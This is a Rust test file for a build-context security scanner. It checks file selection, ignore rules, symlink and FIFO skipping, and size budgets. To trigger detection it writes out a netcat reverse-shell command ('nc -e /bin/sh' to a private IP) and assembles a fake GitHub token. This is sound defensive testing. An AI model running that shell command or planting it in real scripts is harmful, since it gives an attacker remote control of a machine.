//! The scan's file selection (the build context's, bounded) and `scan.ignore`, on real
//! directories; and the demo stack and fixture projects scan clean.

use super::*;
use std::fs;

fn j(parts: &[&str]) -> String {
    parts.concat()
}

/// A line rule JP-SCAN-002 finds, assembled at run time.
fn payload() -> String {
    j(&["n", "c -e /bin/sh 10.0.0.1 4444\n"])
}

fn scan(dir: &Path) -> ScanReport {
    scan_component(dir, None, &ScanSettings::default()).unwrap()
}

fn found(report: &ScanReport) -> Vec<String> {
    report
        .findings
        .iter()
        .map(|f| format!("{}@{}:{}", f.rule, f.path, f.line))
        .collect()
}

#[test]
fn only_what_the_context_carries_is_scanned() {
    let d = tempfile::tempdir().unwrap();
    fs::create_dir_all(d.path().join("node_modules/x")).unwrap();
    fs::create_dir_all(d.path().join("scripts")).unwrap();
    fs::write(d.path().join("scripts/run.sh"), payload()).unwrap();
    fs::write(d.path().join("node_modules/x/run.sh"), payload()).unwrap();
    fs::write(d.path().join("ignored.sh"), payload()).unwrap();
    fs::write(d.path().join(".dockerignore"), "node_modules\nignored.sh\n").unwrap();
    // justpush's state directory never goes into a context either.
    fs::create_dir_all(d.path().join(".justpush/logs")).unwrap();
    fs::write(d.path().join(".justpush/logs/x.sh"), payload()).unwrap();
    let report = scan(d.path());
    assert_eq!(found(&report), vec!["JP-SCAN-002@scripts/run.sh:1"]);
    assert_eq!(report.files_scanned, 2, "run.sh and .dockerignore");
}

#[test]
fn secret_files_the_build_leaves_out_are_not_reported_again() {
    let d = tempfile::tempdir().unwrap();
    let token = j(&["gh", "p_", "R8fJ2kLmN4pQ7sTvW9xYzA1bC3dE5gH6iK0o"]);
    fs::write(d.path().join(".env"), format!("GITHUB_TOKEN={token}\n")).unwrap();
    fs::write(d.path().join("app.js"), format!("const t = '{token}';\n")).unwrap();
    let report = scan(d.path());
    assert_eq!(found(&report), vec!["JP-SCAN-010@app.js:1"]);
}

#[test]
fn links_are_not_followed_and_special_files_are_never_opened() {
    let d = tempfile::tempdir().unwrap();
    fs::write(d.path().join("real.sh"), payload()).unwrap();
    std::os::unix::fs::symlink("real.sh", d.path().join("link.sh")).unwrap();
    let fifo = d.path().join("pipe");
    let made = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: mkfifo with a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(made.as_ptr(), 0o644) }, 0);
    // A read of the FIFO would block this test forever: it must be skipped unopened.
    let report = scan(d.path());
    assert_eq!(found(&report), vec!["JP-SCAN-002@real.sh:1"]);
    let skipped: Vec<&str> = report.skipped.iter().map(|s| s.path.as_str()).collect();
    assert_eq!(skipped, vec!["pipe", "link.sh"]);
    assert_eq!(report.skipped_count, 2);
}

#[test]
fn a_large_file_is_read_only_in_part_and_budgets_are_reported() {
    let d = tempfile::tempdir().unwrap();
    let mut big = "// filler\n".repeat(200);
    big.push_str(&payload());
    fs::write(d.path().join("big.sh"), &big).unwrap();
    let settings = ScanSettings {
        max_file_bytes: 1000,
        ..ScanSettings::default()
    };
    let report = scan_component(d.path(), None, &settings).unwrap();
    assert!(report.findings.is_empty(), "past the prefix: not read");
    assert_eq!(report.truncated, vec!["big.sh"]);

    for n in 0..5 {
        fs::write(d.path().join(format!("f{n}.sh")), payload()).unwrap();
    }
    let settings = ScanSettings {
        max_files: 3,
        ..ScanSettings::default()
    };
    let report = scan_component(d.path(), None, &settings).unwrap();
    assert_eq!(report.files_scanned, 3);
    assert_eq!(report.skipped_count, 3);
    assert!(report.skipped[0].reason.contains("budget of 3 files"));
}

#[test]
fn scan_ignore_silences_by_rule_by_path_and_by_rule_at_path() {
    let d = tempfile::tempdir().unwrap();
    fs::create_dir_all(d.path().join("vendor/tool")).unwrap();
    fs::write(d.path().join("vendor/tool/x.sh"), payload()).unwrap();
    fs::write(d.path().join("run.sh"), payload()).unwrap();
    let mut elf = b"\x7fELF".to_vec();
    elf.extend([0u8; 16]);
    fs::write(d.path().join("tool"), &elf).unwrap();
    let with = |ignore: &[&str]| {
        let settings = ScanSettings {
            ignore: ignore.iter().map(|s| s.to_string()).collect(),
            ..ScanSettings::default()
        };
        let r = scan_component(d.path(), None, &settings).unwrap();
        (found(&r), r.silenced)
    };
    assert_eq!(with(&[]).0.len(), 3);
    assert_eq!(
        with(&["vendor/**"]),
        (
            vec!["JP-SCAN-002@run.sh:1".into(), "JP-SCAN-006@tool:1".into()],
            1
        )
    );
    assert_eq!(
        with(&["JP-SCAN-002"]),
        (vec!["JP-SCAN-006@tool:1".into()], 2)
    );
    assert_eq!(
        with(&["JP-SCAN-002@vendor", "JP-SCAN-006@tool"]),
        (vec!["JP-SCAN-002@run.sh:1".into()], 2)
    );
}

#[test]
fn bad_scan_ignore_entries_are_refused_with_the_entry_named() {
    let bad = |entry: &str| {
        ScanConfig {
            mode: None,
            ignore: vec![entry.into()],
        }
        .validate()
        .unwrap_err()
    };
    assert!(bad("JP-SCAN-999").contains("`JP-SCAN-999` names no rule"));
    assert!(bad("JP-SCAN-002@").contains("empty path"));
    assert!(bad("").contains("is empty"));
    assert!(ScanConfig {
        mode: Some(ScanMode::Strict),
        ignore: vec![
            "JP-SCAN-003".into(),
            "vendor/**".into(),
            "JP-SCAN-006@bin/*".into()
        ],
    }
    .validate()
    .is_ok());
}

/// Every component of a detected project, scanned as its build would send it.
fn scan_project(root: &Path) -> Vec<String> {
    let app = match crate::detect::detect(root) {
        Ok(app) => app,
        Err(_) => return found(&scan(root)),
    };
    let mut out = Vec::new();
    for c in &app.components {
        let dir = crate::image::context::component_dir(root, &c.path);
        let report = scan_component(&dir, Some(c), &ScanSettings::default()).unwrap();
        out.extend(found(&report));
    }
    out
}

#[test]
fn the_demo_stack_scans_clean() {
    let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("images");
    let app = crate::detect::detect(&demo).unwrap();
    assert_eq!(app.components.len(), 2, "frontend and backend");
    assert_eq!(scan_project(&demo), Vec::<String>::new());
}

#[test]
fn the_fixture_projects_scan_clean() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/projects");
    let mut projects = 0;
    for entry in fs::read_dir(&root).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            projects += 1;
            let found = scan_project(&path);
            // A vendored crate's published test key is kept in the context (cargo checks it)
            // and still reported: a forged checksum file must not hide anything from the scan.
            let expected: &[&str] = match path.file_name().and_then(|n| n.to_str()) {
                Some("rust-vendored") => {
                    &["JP-SCAN-007@vendor/justpush-fixture-keys/tests/key.pem:1"]
                }
                _ => &[],
            };
            assert_eq!(found, expected, "{}", path.display());
        }
    }
    assert!(projects >= 20, "the fixtures are there ({projects})");
}
